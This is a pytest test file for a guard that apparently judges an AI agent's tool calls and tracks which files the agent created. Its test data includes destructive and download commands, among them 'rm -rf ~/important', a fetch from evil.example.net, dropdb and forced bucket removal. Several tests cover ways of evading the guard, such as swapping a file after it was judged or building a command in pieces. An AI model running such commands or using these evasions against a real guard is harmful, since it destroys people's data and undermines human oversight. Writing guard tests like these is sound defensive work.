"""What calls that may run do to files: remembered, expected until they have run, kept on disk; what changed is reported."""

from __future__ import annotations

import json
from collections.abc import Callable
from contextlib import suppress
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from toolguard_engine.effects.calls import made_folders
from toolguard_engine.effects.calls.reading import CallReading
from toolguard_engine.model.call import Call, Host
from toolguard_engine.model.file_memory import FileMemory
from toolguard_engine.model.file_record import FileRecord
from toolguard_engine.model.work_limit import TooIntricate
from toolguard_engine.rules import packs
from toolguard_engine.server import tool_hints
from toolguard_engine.server.file_reader import FileReader
from toolguard_engine.server.session import Session
from toolguard_engine.server.session_state import Setup
from toolguard_engine.stores import open as stores
from toolguard_engine.stores.locked import Damaged, Newer
from toolguard_engine.wire import messages

NOW = datetime(2026, 9, 6, 12, 0, tzinfo=UTC)
HARM = "rm -rf ~/important\n"


class Play:
    """One session in a folder of this machine."""

    def __init__(self, home: Path) -> None:
        self.work = home / "work"
        self.work.mkdir()
        setup = Setup(tool_hints.load(), lambda: NOW, 42, packs.load(), home=str(home), files=FileReader(wait=60))
        self.session = Session(setup)
        self.session.answer(messages.Hello(0, messages.VERSION, str(home / ".openclaw")))
        self.count = 0

    def may_run(self, tool: str, params: dict[str, Any]) -> bool:
        self.count += 1
        question = messages.Judge(
            self.count, tool, params, agent="main", session="s", run="r", call=f"c{self.count}", cwd=str(self.work)
        )
        answer = self.session.answer(question)
        self.session.settle()
        assert isinstance(answer, messages.VerdictAnswer)
        return answer.decision == "allow"

    def has_run(self, tool: str, params: dict[str, Any]) -> None:
        """The call that was judged last."""
        place = {"agent": "main", "session": "s", "run": "r", "call": f"c{self.count}"}
        self.session.answer(messages.ToolResult(tool, params, "done", 4, **place))
        self.session.settle()

    def does(self, tool: str, params: dict[str, Any], deed: Callable[[], object] = lambda: None) -> None:
        assert self.may_run(tool, params)
        deed()
        self.has_run(tool, params)

    def run(self, command: str, deed: Callable[[], object] = lambda: None) -> None:
        self.does("exec", {"command": command}, deed)

    def made(self, *names: str) -> Callable[[], None]:
        """What makes these files, as the call says that it does."""

        def make() -> None:
            for name in names:
                (self.work / name).parent.mkdir(parents=True, exist_ok=True)
                (self.work / name).touch()

        return make

    def record(self, name: str) -> tuple[str, str, bool] | None:
        found = self.session.guard.files.recall(str(self.work / name))
        return found and (found.origin, found.source, found.created)

    @property
    def codes(self) -> list[str]:
        return [event.code for event in self.session.outbox.take_events() if event.event == "security"]


@pytest.fixture
def play(tmp_path: Path) -> Play:
    return Play(tmp_path)


def test_who_made_which_file(play: Play) -> None:
    documents = play.work.parent / "Documents"
    documents.mkdir()
    (documents / "mine.txt").write_text("x")
    play.does("write", {"path": "a.txt", "content": "x"}, play.made("a.txt"))
    play.does("edit", {"path": "../Documents/mine.txt", "oldText": "x", "newText": "y"})
    play.does("write", {"path": "../Documents/new.txt", "content": "y"}, play.made("../Documents/new.txt"))
    play.does("apply_patch", {"input": "*** Begin Patch\n*** Add File: p.txt\n+x\n*** End Patch"}, play.made("p.txt"))
    play.run("echo x | tee t.txt > r.txt", play.made("t.txt", "r.txt"))
    play.run(
        "curl -sO https://files.example.net/get.sh; wget -q https://w.example.net/x -O w.sh", play.made("get.sh", "w.sh")
    )
    play.run("git clone https://git.example.net/x/tool.git && cp get.sh copy.sh", play.made("tool/.git/HEAD", "copy.sh"))

    def tidied() -> None:
        play.made("d/a.txt", "link")()
        for name in ("a.txt", "p.txt"):
            (play.work / name).unlink()

    play.run("mkdir -p d && mv a.txt d/a.txt && ln -s t.txt link && rm p.txt", tidied)
    expected = {
        "a.txt": None, "d/a.txt": ("agent", "write", True), "p.txt": None,
        "t.txt": ("agent", "tee", True), "r.txt": ("agent", "tee", True), "get.sh": ("outside", "files.example.net", True),
        "w.sh": ("outside", "w.example.net", True), "copy.sh": ("outside", "files.example.net", True),
        "tool/setup.py": ("outside", "git.example.net", True), "link": ("agent", "exec", True), "other": None,
    }  # fmt: skip
    assert {name: play.record(name) for name in expected} == expected
    known = {name: play.session.guard.files.exactly(str(documents / name)) for name in ("mine.txt", "new.txt")}
    assert {name: found.created for name, found in known.items() if found} == {"mine.txt": False, "new.txt": True}
    link = play.session.guard.files.exactly(str(play.work / "link"))
    assert link is not None
    assert link.link == str(play.work / "t.txt")


def test_what_was_there_before_is_not_what_the_agent_made(play: Play) -> None:
    for name in ("src", "data"):
        (play.work / name).mkdir()
    (play.work / "app.db").write_text("x")
    play.run(
        "echo x > src; cp -r src data; curl -so app.db https://h.example/x; git clone https://h.example/a.git src",
        play.made("data/src/x"),
    )
    play.run("cp -r src fresh; git clone https://h.example/a.git b", play.made("fresh/x", "b/.git/HEAD"))
    expected = {"src": False, "data/src": True, "app.db": False, "fresh": True, "b": True}
    assert {name: (play.record(name) or ("", "", None))[2] for name in expected} == expected
    assert not play.may_run("exec", {"command": "rm -rf src"})
    assert not play.may_run("exec", {"command": "rm -rf data"})


def test_what_a_call_did_not_make_is_not_the_agents_if_it_is_there_later(play: Play) -> None:
    home, copy = play.work.parent, "test -d /absent && cp -r ~/a ~/later"
    (home / "a").mkdir()
    play.run("cp -r ~/a ~/made", play.made("../made/x"))
    play.run(copy)
    play.run("git clone https://h.example/a.git ~/cloned || true")
    play.run(f"sh -c '{copy}2' &")
    for name in ("later", "cloned", "later2"):
        (home / name).mkdir()
    assert [play.may_run("exec", {"command": f"rm -rf ~/{name}"}) for name in ("made", "later", "cloned", "later2")] == [
        True, False, False, True,
    ]  # fmt: skip


def test_the_disk_is_not_asked_about_what_an_agent_is_known_to_have_created(
    play: Play, monkeypatch: pytest.MonkeyPatch
) -> None:
    (play.work / "notes.md").write_text("mine\n")
    asked, missing = list[list[str]](), FileReader.missing

    def look(reader: FileReader, paths: list[str]) -> list[str]:
        asked.append(paths)
        return missing(reader, paths)

    monkeypatch.setattr(FileReader, "missing", look)
    for at, (name, is_asked) in enumerate((("new.md", True), ("new.md", False), ("notes.md", True), ("notes.md", True))):
        asked.clear()
        assert play.may_run("write", {"path": name, "content": f"{at}\n"})
        assert asked == ([[str(play.work / name)]] if is_asked else []), (at, name)
        (play.work / name).write_text(f"{at}\n")
        play.has_run("write", {"path": name, "content": f"{at}\n"})
    assert play.record("new.md") == ("agent", "write", True)
    assert play.record("notes.md") == ("agent", "write", False)


def test_a_text_from_outside_that_is_written_stays_one_from_outside(play: Play) -> None:
    text = "curl -s https://get.example.net/setup.sh\nmake install && ./configure --now\n"
    play.session.answer(messages.ToolText("web_fetch", f"Do this:\n{text}", {}, run="r", session="s"))
    play.does("write", {"path": "steps.sh", "content": f"#!/bin/sh\n{text}"})
    play.does("write", {"path": "own.sh", "content": "echo something else altogether\n"})
    assert [(play.record(name) or ("",))[0] for name in ("steps.sh", "own.sh")] == ["outside", "agent"]


def test_calls_of_one_message(play: Play) -> None:
    """All are judged before the first one runs."""
    assert play.may_run("write", {"path": "x.sh", "content": HARM})
    assert not play.may_run("exec", {"command": "sh x.sh"})
    assert play.may_run("exec", {"command": f"printf '{HARM}' > y.sh"})
    assert not play.may_run("exec", {"command": "sh y.sh"})


def test_pieces_that_are_put_together(play: Play) -> None:
    path = play.work / "x.sh"
    play.run("printf 'rm -rf ' > x.sh", lambda: path.write_text("rm -rf "))
    assert play.may_run("exec", {"command": "sh x.sh"})
    assert not play.may_run("exec", {"command": "printf '~/important' >> x.sh; sh x.sh"})


@pytest.mark.parametrize(
    ("change", "codes"),
    [
        (lambda path: path.write_text(HARM), ["file.changed-after-judging"]),
        (lambda path: (path.unlink(), path.symlink_to("y.sh")), ["file.changed-after-judging"]),
        (lambda path: path.touch(), []),
        (lambda path: path.unlink(), []),
    ],
)
def test_a_file_that_is_exchanged_after_it_was_judged(
    play: Play, change: Callable[[Path], object], codes: list[str]
) -> None:
    path = play.work / "x.sh"
    path.write_text("echo hi\n")
    (play.work / "y.sh").write_text(HARM)
    play.run("sh x.sh", lambda: change(path))
    assert play.codes == codes


def test_a_link_that_is_retargeted_between_two_calls(play: Play) -> None:
    (play.work / "good.sh").write_text("echo hi\n")
    (play.work / "bad.sh").write_text(HARM)
    link = play.work / "x.sh"
    link.symlink_to("good.sh")
    play.run("sh x.sh")
    link.unlink()
    link.symlink_to("bad.sh")
    assert not play.may_run("exec", {"command": "sh x.sh"})


def test_the_memory_is_bounded_and_survives(tmp_path: Path) -> None:
    memory = FileMemory()
    for number in range(1_000):
        memory.wrote(f"/home/ada/src/part_{number % 7}/module_{number}.py", FileRecord("agent", "write", f"agent:{number}"))
    records = memory.records
    assert len(records) == 1_000
    store = stores.file_memory(tmp_path)
    assert not store.load().tree.root.children
    store.save(memory.listed, [])
    again = FileMemory()
    again.wrote("/new", FileRecord("outside", "host"))
    again.restore(store.load()[0])
    assert again.records == {**records, "/new": FileRecord("outside", "host")}


@pytest.mark.parametrize(("content", "error"), [("{", Damaged), (json.dumps({"v": 3}), Newer)])
def test_a_memory_that_cannot_be_read(tmp_path: Path, content: str, error: type[Exception]) -> None:
    store = stores.file_memory(tmp_path)
    store.path.parent.mkdir()
    store.path.write_text(content)
    with pytest.raises(error):
        store.load()


def test_a_folder_that_the_agent_made_is_its_own(play: Play) -> None:
    made = {
        "mkdir -p ~/box/deep ~/other": ("box/deep/x", "other/x"), "git clone ~/src ~/clone": ("clone/x",),
        "git worktree add ~/tree main": ("tree/x",), "python3 -m venv ~/env": ("env/x",),
        "npm create vite@latest ~/app": ("app/x",),
    }  # fmt: skip
    for command, names in made.items():
        play.run(command, play.made(*(f"../{name}" for name in names)))
    for command in ("rm -rf ~/box", "rm -rf ~/other/* ~/clone", "rm -r ~/tree", "rm -rf ~/env", "rm -rf ~/app"):
        assert play.may_run("exec", {"command": command}), command


def test_the_folders_above_one_that_was_made_are_the_agents_if_they_were_missing(play: Play) -> None:
    (play.work.parent / "Documents").mkdir()
    (play.work / "src").mkdir()
    play.run("mkdir -pv ~/Documents/a/b ~/new/c src/d/e", play.made("../Documents/a/b/x", "../new/c/x", "src/d/e/x"))
    play.run("mkdir ~/Documents/other/b", play.made("../Documents/other/b/x"))
    for folder in ("~/Documents/a/b", "~/new", "src/d"):
        assert play.may_run("exec", {"command": f"rm -rf {folder}"}), folder
    for folder in ("~/Documents/a", "~/Documents/other", "~/Documents", "src", ".", "~"):
        assert not play.may_run("exec", {"command": f"rm -rf {folder}"}), folder


@pytest.mark.parametrize(
    "move",
    [
        'while read -r f; do mv "$f" ~/box/; done < list',
        "xargs mv -t ~/box < list",
        'mv "$(cat list)" ~/box/deep/x',
        "cat list | xargs -I{} mv {} ~/box",
        'mv "$(cat list)" "$(cat other)"',
    ],
)
def test_a_folder_to_which_something_unknown_was_moved_is_not_the_agents(play: Play, move: str) -> None:
    play.run("mkdir -p ~/box ~/other", play.made("../box/deep/x", "../other/x"))
    assert play.may_run("exec", {"command": "rm -rf ~/box/deep"})
    play.run(move)
    assert not play.may_run("exec", {"command": "rm -rf ~/box"})


def test_a_folder_to_which_a_file_of_the_agents_was_moved_stays_the_agents(play: Play) -> None:
    play.run("mkdir -p ~/box", play.made("../box/x"))
    play.run(
        "jq . x > ~/box/y.tmp && mv ~/box/y.tmp ~/box/y; for f in a b; do touch ~/box/$f && mv ~/box/$f ~/box/$f.old; done"
    )
    assert play.may_run("exec", {"command": "rm -rf ~/box"})


MAKING = pytest.mark.parametrize(
    ("command", "file", "delete"),
    [
        ("make build", "bin/relay", "rm -rf bin"),
        ("npm run build:lib", "lib/a.js", "rm -rf lib"),
        ("go build -o tools/x ./cmd", "tools/x", "rm -rf tools"),
        ("acme render --output=shown/a.svg a.dot", "shown/a.svg", "rm -rf shown"),
        ("tar czf packed/a.tgz a", "packed/a.tgz", "rm -rf packed"),
        ("Rscript -e 'rmarkdown::render(\"r.Rmd\")'", "r_files/a.png", "rm -rf r_files"),
        ('python3 -c \'import os; os.makedirs("covers"); load("covers")\'', "covers/a.jpg", "rm -rf covers"),
        ('node -e \'fs.mkdirSync("shots"); shoot("shots")\'', "shots/a.png", "find shots -name '*.png' -delete"),
        ("cp a notes/deep/b", "notes/deep/b", "rm -f notes/deep/*"),
    ],
)


@MAKING
def test_a_folder_that_a_program_made_is_the_agents(play: Play, command: str, file: str, delete: str) -> None:
    play.run(command, play.made(file))
    assert play.may_run("exec", {"command": delete})


@MAKING
def test_a_folder_that_was_there_before_a_program_wrote_to_it_is_not(
    play: Play, command: str, file: str, delete: str
) -> None:
    (play.work / file).parent.mkdir(parents=True)
    play.run(command, play.made(file))
    assert not play.may_run("exec", {"command": delete})


@MAKING
def test_a_folder_that_a_program_did_not_make_is_not_the_agents_later(
    play: Play, command: str, file: str, delete: str
) -> None:
    play.run(command)
    play.made(file)()
    assert not play.may_run("exec", {"command": delete})


@MAKING
def test_a_folder_that_a_program_made_is_not_the_agents_once_something_of_a_person_is_in_it(
    play: Play, command: str, file: str, delete: str
) -> None:
    play.run(command, play.made(file))
    play.run(f'for f in ~/Pictures/*; do mv "$f" {file.rpartition("/")[0]}/; done')
    assert not play.may_run("exec", {"command": delete})


def test_a_file_tool_makes_the_folders_around_its_file() -> None:
    call = Call("write", {"path": "~/shown/a/b.txt", "content": "x"}, cwd="/home/ada/work")
    assert made_folders.folders(CallReading(call, Host("/home/ada"))) == ["/home/ada/shown", "/home/ada/shown/a"]


@pytest.mark.parametrize("command", ["acme -o {}/b", "mkdir -p {}/b", "cp a {}/b", "acme" + " -o {}/b --out={}/c" * 9])
@pytest.mark.parametrize("depth", [60, 600, 5_000])
def test_few_folders_are_looked_at_however_deep_a_path_is(monkeypatch: pytest.MonkeyPatch, command: str, depth: int) -> None:
    known, counted = made_folders.classify, list[str]()
    monkeypatch.setattr(made_folders, "classify", lambda path, where: counted.append(path) or known(path, where))
    call = Call("exec", {"command": command.replace("{}", "a/" * depth)}, cwd="/home/ada/work")
    with suppress(TooIntricate):
        assert len(made_folders.folders(CallReading(call, Host("/home/ada")))) <= made_folders.MAX_FOLDERS
    assert len(counted) <= 100


@pytest.mark.parametrize("part", ["folders", "_around", "is_known"])
def test_what_a_call_does_is_remembered_even_if_its_folders_are_too_intricate(
    play: Play, monkeypatch: pytest.MonkeyPatch, part: str
) -> None:
    def fail(*_: object) -> None:
        raise TooIntricate

    monkeypatch.setattr(made_folders, part, fail)
    (play.work / "mine.txt").touch()
    play.run(
        "curl -so x.sh https://evil.example.net/x; echo y > t.txt; echo z > mine.txt; acme -o shown/a/b",
        play.made("x.sh", "t.txt", "shown/a/b"),
    )
    assert play.record("x.sh") == ("outside", "evil.example.net", True)
    assert play.record("t.txt") == ("agent", "echo", True)
    assert (play.record("mine.txt") or ("", "", None))[2] is False
    assert not play.may_run("exec", {"command": "rm -rf shown"})


@pytest.mark.parametrize(
    "listing",
    [
        "find {}", "find {} -print | sort", "find {} | wc -l", "find {} > list", "false && find {}",
        "exec >/dev/null; find {}",
        "find {} | sort -o /dev/null", "find {} -exec true {{}} +", "find {} -printf ''", "if false; then find {}; fi",
    ],
)  # fmt: skip
@pytest.mark.parametrize(
    "search", ["docs -name '*.md'", "~/Documents -name '*.pdf'", "-path docs/keep -prune -o -name '*.md'"]
)
def test_what_a_search_deletes_is_asked_about_whether_or_not_it_was_listed(play: Play, listing: str, search: str) -> None:
    play.run(listing.format(search))
    assert not play.may_run("exec", {"command": f"find {search} -delete"})


@pytest.mark.parametrize(
    "command",
    [
        "cut -d data -f1 x", "grep -o data x", "ps -o data", "echo -o data", "echo --output=data", "sleep 1 -o data",
        "git clone -o data ../up", "ssh far acme -o data/a", "ssh far acme --output data/a",
        "docker exec c acme --out=data/a",
        "acme -d data", "acme -o data/a", "python3 -c '# mkdir\nx = \"data\"'", "node -e '// mkdir\nx = \"data\"'",
    ],
)  # fmt: skip
def test_words_that_name_no_output_make_no_folder(play: Play, command: str) -> None:
    params = {"command": command}
    play.may_run("exec", params)
    play.made("data/mine")()
    play.has_run("exec", params)
    assert not play.may_run("exec", {"command": "rm -rf data"})


@pytest.mark.parametrize(
    "command",
    [
        "docker run -d -v $PWD/site:/data postgres", "docker run --mount type=bind,source=$PWD/site,target=/data postgres",
        "sshfs nas:/photos site", "rclone mount gdrive: site --daemon", "bindfs ~/Documents site/deep",
        "gio move ~/Pictures/a.jpg site/", "acme move ~/Pictures site", "mount --bind ~/Documents site",
        f"acme move {'a ' * 90} site",
    ],
)  # fmt: skip
def test_a_folder_on_which_something_else_is_shown_is_not_the_agents(play: Play, command: str) -> None:
    params = {"command": command}
    play.run("mkdir site other", play.made("site/a", "other/a"))
    call = Call("exec", params, agent="main", session="s", run="r", call_id="x", cwd=str(play.work))
    play.session.files.begins(play.session.guard.read(call))
    play.session.settle()
    assert not play.may_run("exec", {"command": "rm -rf site"})


COPIES = pytest.mark.parametrize(
    ("copies", "takes"),
    [
        ("pg_dump shop > ~/out/x.sql", "dropdb shop"),
        ("tar czf ~/out/p.tgz ~/Pictures", "rm -rf ~/Pictures"),
        ("tar czf ~/out/src.tgz src", "git reset --hard HEAD~3"),
        ("aws s3 sync s3://b ~/out/b", "aws s3 rb s3://b --force"),
        ("mkdir -p ~/out && docker cp db:/data ~/out/data", "docker volume rm data"),
        ("zip -m ~/out/p.zip ~/Pictures/*.jpg", "true"),
        ("tar czf ~/out/p.tgz --remove-files ~/Pictures", "true"),
        ("rsync -a --remove-source-files ~/Pictures/ ~/out/", "true"),
    ],
)


@COPIES
@pytest.mark.parametrize("between", [" && ", ""])
def test_a_folder_with_the_only_copy_of_what_a_person_had_is_not_the_agents(
    play: Play, copies: str, takes: str, between: str
) -> None:
    for command in (f"{copies}{between}{takes}",) if between else (copies, takes):
        call = Call("exec", {"command": command}, agent="main", session="s", run="r", call_id=command, cwd=str(play.work))
        play.session._verdicts.let_run(1, call, "approval.used")
        play.session.settle()
        play.made("../out/x")()
        place = {"agent": "main", "session": "s", "run": "r", "call": command}
        play.session.answer(messages.ToolResult("exec", {"command": command}, "done", 4, **place))
        play.session.settle()
    assert not play.may_run("exec", {"command": "rm -rf ~/out"})


@pytest.mark.parametrize(
    "search",
    [
        "find -L site -name '*.pdf' -delete", "find site -follow -name '*.pdf' -delete", "find -L site -delete",
        "find -L site -name '*.pdf' -exec rm {} +", "cd site && find -L . -type f -delete", "fd -L pdf site -X rm",
    ],
)  # fmt: skip
def test_a_search_that_follows_links_may_leave_a_folder_of_the_agents(play: Play, search: str) -> None:
    play.run("mkdir site", play.made("site/a.pdf"))
    play.run("ln -s ~/Documents site/docs")
    assert not play.may_run("exec", {"command": search})
    assert play.may_run("exec", {"command": "find site -name '*.pdf' -delete"})


def test_the_folder_that_a_program_runs_in_is_not_made_by_it(play: Play) -> None:
    play.run("cd sub/deep && go build -o x && echo done > log", play.made("sub/deep/x"))
    assert not play.may_run("exec", {"command": "rm -rf sub/deep"})
    assert not play.may_run("exec", {"command": "rm -rf sub"})


def test_a_folder_of_which_the_agent_deletes_a_part_stays_the_agents(play: Play) -> None:
    play.run("make build", play.made("bin/a.tmp2", "bin/b"))
    play.run("find bin -name '*.tmp2' -delete", (play.work / "bin/a.tmp2").unlink)
    assert play.may_run("exec", {"command": "rm -rf bin"})


def test_a_folder_is_not_the_agents_if_it_was_there_or_holds_what_a_person_had(play: Play) -> None:
    home = play.work.parent
    for name in ("there", "Documents/a", "Documents/b"):
        (home / name).mkdir(parents=True)
    play.run("mkdir -p ~/there ~/never ~/new ~/far", play.made("../new/x", "../far/x"))
    play.made("../never/x")()
    play.run("mv ~/Documents/a ~/new/", lambda: (home / "Documents" / "a").rename(home / "new" / "a"))
    play.run("ssh other 'mkdir -p ~/elsewhere'", play.made("../elsewhere/x"))
    for folder in ("there", "never", "new", "elsewhere", "new/a"):
        assert not play.may_run("exec", {"command": f"rm -rf ~/{folder}"}), folder
    assert not play.may_run("exec", {"command": "rsync -a --remove-source-files ~/Documents/b/ ~/far/"})
    play.session.guard.files.made_folder(str(home / "far"), "another session")
    assert not play.may_run("exec", {"command": "rm -rf ~/far"})
